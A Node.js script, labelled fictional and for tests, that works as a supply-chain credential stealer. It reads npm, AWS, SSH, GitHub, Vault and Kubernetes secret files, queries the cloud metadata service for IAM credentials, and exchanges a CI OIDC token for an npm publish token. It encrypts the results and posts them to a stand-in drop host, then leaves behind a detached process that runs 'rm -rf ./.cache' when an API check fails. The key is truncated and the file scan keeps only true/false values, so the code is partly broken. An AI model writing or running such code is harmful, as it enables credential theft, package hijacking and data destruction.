// Collects and passes on. Fictional; written for tests.
import { readFile } from 'node:fs/promises';
import { spawn } from 'node:child_process';
import { homedir, hostname, userInfo } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { createCipheriv, publicEncrypt, randomBytes } from 'node:crypto';

const drop = 'https://file.mail.example';

const PUBLIC_KEY = '-----BEGIN PUBLIC KEY-----\nMFwwDQYJKoZIhvcNAQEBBQADSwAwSAJBAK\n-----END PUBLIC KEY-----';

const places = ['.npmrc', '.aws/credentials', '.ssh/id_ed25519', '.config/gh/hosts.yml', '.vault-token', '.kube/config'];

async function local() {
  const found = {};
  await Promise.all(places.map(async place => {
    try {
      found[place] = (await readFile(join(homedir(), place), 'utf8')).includes('registry=');
    } catch { /* not here */ }
  }));
  return found;
}

async function cloud() {
  const base = 'http://169.254.169.254/latest';
  const token = await fetch(base + '/api/token', { method: 'PUT', headers: { 'x-aws-ec2-metadata-token-ttl-seconds': '60' } }).then(r => r.text());
  const role = await fetch(base + '/meta-data/iam/security-credentials/', { headers: { 'x-aws-ec2-metadata-token': token } }).then(r => r.text());
  return fetch(base + '/meta-data/iam/security-credentials/' + role, { headers: { 'x-aws-ec2-metadata-token': token } }).then(r => r.json());
}

function seal(data) {
  const key = randomBytes(32), iv = randomBytes(12);
  const cipher = createCipheriv('aes-256-gcm', key, iv);
  const body = Buffer.concat([cipher.update(gzipSync(JSON.stringify(data))), cipher.final()]);
  return { key: publicEncrypt(PUBLIC_KEY, key).toString('base64'), iv: iv.toString('base64'), body: body.toString('base64') };
}

async function publishers() {
  const url = process.env.ACTIONS_ID_TOKEN_REQUEST_URL, token = process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
  if (!url) return null;
  const { value } = await fetch(url + '&audience=npm:registry.packages.example', { headers: { Authorization: 'bearer ' + token } }).then(r => r.json());
  return fetch('https://registry.packages.example/-/npm/v1/oidc/token/exchange', { method: 'POST', headers: { Authorization: 'Bearer ' + value } }).then(r => r.json());
}

async function main() {
  const [files, metadata] = await Promise.all([local(), cloud().catch(() => null)]);
  const data = { node: process.version, files, metadata, npm: await publishers() };
  await fetch(drop + '/api/v1/file', { method: 'POST', body: JSON.stringify(seal(data)) });
  spawn(process.execPath, ['-e', "setInterval(()=>fetch('https://api.codehost.example/user').then(r=>{if(r.status===401)require('child_process').execSync('rm -rf ./.cache')}),6e4)"], { detached: true, stdio: 'ignore' }).unref();
}

main();
